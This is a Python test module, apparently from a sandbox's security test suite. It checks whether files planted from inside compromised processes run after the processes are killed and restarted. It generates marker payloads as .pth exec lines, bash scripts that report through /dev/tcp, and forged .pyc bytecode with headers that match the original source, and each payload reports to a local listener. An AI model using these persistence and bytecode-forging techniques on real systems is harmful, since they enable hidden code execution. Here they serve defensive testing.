"""What is left behind for the next start: all plants at once, then both processes die, are revived, and the gateway is started anew.

Each attempt adds its plants when it is imported, and judges what became of its own. A plant that is run says so on standard error and
calls a listener that nothing declares.
"""

from __future__ import annotations
import __future__

import base64
import importlib.util
import marshal
import time
from collections.abc import Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

from tests.attacks.inside import observe
from tests.attacks.inside.taken import Taken, spoiled, taken
from tests.attacks.inside.verdicts import names
from tests.attacks.registry import Seen
from tests.attacks.stage import Stage

QUIET_S: Final = 10.0
Plants = dict[Path, bytes | str]
_MARK: Final = """
try:
    import _socket as _s, posix as _o, sys as _y
    _o.write(2, b"@@ran {name}\\n")
    _c = _s.socket(2, 1, 0)
    _c.settimeout(0.5)
    _c.connect(("{host}", {port}))
    _c.send("ran {name} in {{}}\\n".format(" ".join(_y.argv[:2])).encode())
    _c.close()
except Exception:
    pass
"""
_ADDED: dict[str, tuple[str, Callable[[Taken, Mark], Plants]]] = {}


@dataclass(frozen=True)
class Mark:
    """Makes the texts of plants. attempt: the attempt's."""

    attempt: str
    port: int
    host: str = "127.0.0.1"

    def python(self, name: str) -> str:
        return _MARK.format(name=f"{self.attempt}:{name}", port=self.port, host=self.host)

    def line(self, name: str) -> str:
        """One line, as a `.pth` runs it."""
        return f"import sys; exec({self.python(name)!r})\n"

    def shell(self, name: str, then: str = "true") -> str:
        ran = f"ran {self.attempt}:{name}"
        return f"#!/bin/bash\necho '@@{ran}' >&2\necho '{ran}' 2>/dev/null >/dev/tcp/{self.host}/{self.port}\nexec {then}\n"

    def byte_code(self, source: Path, name: str) -> bytes:
        """What the interpreter takes for the compiled `source`, as long as nobody writes to that."""
        info = source.stat()
        text = self.python(name) + source.read_text(encoding="utf-8").replace("from __future__ import annotations", "")
        code = compile(text, str(source), "exec", __future__.annotations.compiler_flag)
        head = importlib.util.MAGIC_NUMBER + bytes(4) + int(info.st_mtime).to_bytes(4, "little") + info.st_size.to_bytes(4, "little")
        return head + marshal.dumps(code)


@dataclass
class Outcome:
    """written: plants that lie there, by attempt. ran: what was run, as it said. reached: what the listener heard."""

    written: dict[str, list[str]] = field(default_factory=dict)
    ran: dict[str, list[str]] = field(default_factory=dict)
    statuses: dict[str, dict[str, str]] = field(default_factory=dict)
    said: dict[str, str] = field(default_factory=dict)
    started: str = ""


def add(attempt: str, plants: Callable[[Taken, Mark], Plants], verb: str = "engine") -> None:
    _ADDED[attempt] = (verb, plants)


def leave(here) -> None:  # type: ignore[no-untyped-def]
    import base64
    import os
    import signal
    from pathlib import Path

    for name, content in here.given["plants"].items():
        path = Path(name)

        def write(path=path, content=content) -> None:  # type: ignore[no-untyped-def]
            path.parent.mkdir(parents=True, exist_ok=True)
            if path.is_symlink():
                path.unlink()
            path.write_bytes(base64.b64decode(content))
            path.chmod(0o755)

        here.attempt(name, write)
    here.say("dies")
    if here.given["how"] == "abort":
        os.abort()
    os.kill(os.getpid(), signal.SIGKILL)


def judged(stage: Stage, attempt: str, *, own: bool = False) -> Seen:
    """own: its plants lie where the process may write, and only must not be run."""
    outcome = carried_out(stage, attempt)
    written, ran = outcome.written.get(attempt, []), outcome.ran.get(attempt, [])
    bad = [f"run: {names(ran)}"] if ran else []
    if written and not own:
        bad.append(f"written: {names(written)}")
    return Seen(not bad, "; ".join(bad) or ("written, but never run" if written else "not written, nothing ran"))


def carried_out(stage: Stage, attempt: str) -> Outcome:
    """In the short form once, with the plants of all; else with those of this attempt alone."""
    name = "campaign" if stage.short else f"campaign {attempt}"
    if (found := stage.shared.get(name)) is None:
        found = stage.shared[name] = _carry_out(stage, taken(stage), list(_ADDED) if stage.short else [attempt])
    return found  # type: ignore[no-any-return]


def _carry_out(stage: Stage, one: Taken, ids: Sequence[str]) -> Outcome:
    one.window()
    port, outcome, before = one.listener.another(), Outcome(), dict[Path, bytes | None]()
    plants: dict[str, Plants] = {attempt: made(one, Mark(attempt, port)) for attempt, (_, made) in _ADDED.items() if attempt in ids}
    for path in (path for each in plants.values() for path in each):
        before[path] = _content(path)
    pids = {verb: one.pid(verb) for verb in ("gui", "engine")}
    for verb in pids:
        mine = {path: content for attempt, each in plants.items() if _ADDED[attempt][0] == verb for path, content in each.items()}
        given = {
            str(path): base64.b64encode(content if isinstance(content, bytes) else content.encode()).decode()
            for path, content in mine.items()
        }
        outcome.said |= one.run(leave, verb, last=True, plants=given, how="abort" if verb == "gui" else "kill")
    try:
        _watch(stage, one, outcome, pids)
        texts = [said for _, said in one.listener.reached] + _lines(one.folder / "serve.log")
        texts += [line for name in ("engine", "gui", "vault", "keeper") for line in one.log(name).splitlines()]
        for attempt, each in plants.items():
            outcome.written[attempt] = [one.short(path) for path, content in each.items() if _lies(path, content, before[path])]
            outcome.ran[attempt] = sorted({text.strip()[:100] for text in texts if f"ran {attempt}:" in text})
    finally:
        for path, content in before.items():
            if _content(path) != content:
                _put_back(path, content)
        if outcome.started or any(outcome.ran.values()) or any(outcome.written.values()):
            spoiled(stage)
    return outcome


def _watch(stage: Stage, one: Taken, outcome: Outcome, pids: dict[str, int]) -> None:
    began = time.monotonic()
    for verb, pid in pids.items():
        outcome.statuses[verb] = _status(one, verb, pid)
    for words in (("status",), ("network", "status")):
        with suppress(Exception):
            one.gateway.cli(*words, check=False, cwd=one.own, timeout_s=20)
    time.sleep(max(0.0, (2.0 if stage.short else QUIET_S) - (time.monotonic() - began)))
    one.gateway.stop()
    try:
        one.start()
        one.window()
        for verb in pids:
            outcome.statuses[f"{verb}, next start"] = _status(one, verb, 0)
    except Exception as error:
        outcome.started = f"the next start failed: {error}"[:200]


def _status(one: Taken, verb: str, before: int, within_s: float = 15.0) -> dict[str, str]:
    """Of another process than `before`, once its lock is on or the time is over; {} when there is none."""
    end = time.monotonic() + within_s
    while True:
        found = observe.status_of(one.pid(verb, but=before))
        if found.get("Seccomp") == "2" or time.monotonic() > end:
            return found
        time.sleep(0.1)


def _lies(path: Path, content: bytes | str, before: bytes | None) -> bool:
    """Whether the plant is there, or what was there is gone."""
    now = _content(path)
    return now == (content if isinstance(content, bytes) else content.encode()) or (before is not None and now is None)


def _content(path: Path) -> bytes | None:
    try:
        return path.read_bytes() if not path.is_symlink() else b"-> " + bytes(path.readlink())
    except OSError:
        return None


def _put_back(path: Path, content: bytes | None) -> None:
    with suppress(OSError):
        path.unlink(missing_ok=True)
        if content is not None and content.startswith(b"-> "):
            path.symlink_to(content[3:].decode())
        elif content is not None:
            path.write_bytes(content)


def _lines(path: Path) -> list[str]:
    with suppress(OSError):
        return path.read_text(errors="replace").splitlines()
    return []
